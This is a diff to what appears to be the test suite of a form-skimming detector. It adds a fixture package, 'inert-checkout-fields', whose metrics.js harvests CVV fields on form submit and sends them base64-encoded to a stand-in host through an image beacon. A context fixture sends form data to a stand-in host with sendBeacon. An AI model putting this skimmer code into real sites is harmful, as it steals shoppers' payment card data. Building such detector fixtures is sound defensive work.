@@ -27,6 +27,16 @@ examine(skimsForms, {
       },
     },
     {
+      when: 'every field of the page is gone through, unasked, and sent to a host that is called like the package',
+      files: {
+        'package.json': { name: 'inert-checkout-fields', version: '1.0.0' },
+        'index.js': `require('./metrics').attach()`,
+        'metrics.js': `function all(root) { const out = []; root.querySelectorAll('input,select').forEach(el => { if (/cvv/.test(el.name)) out.push(el.name + '=' + el.value) }); return out.join('&') }
+          exports.attach = () => document.addEventListener('submit', () => { const s = all(document); new Image().src = '//px.checkout.invalid/i.gif?' + btoa(s) })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'by a beacon',
       files: {
         'index.js': `document.addEventListener('submit', e => navigator.sendBeacon('https://skim.invalid/', new FormData(e.target)))`,
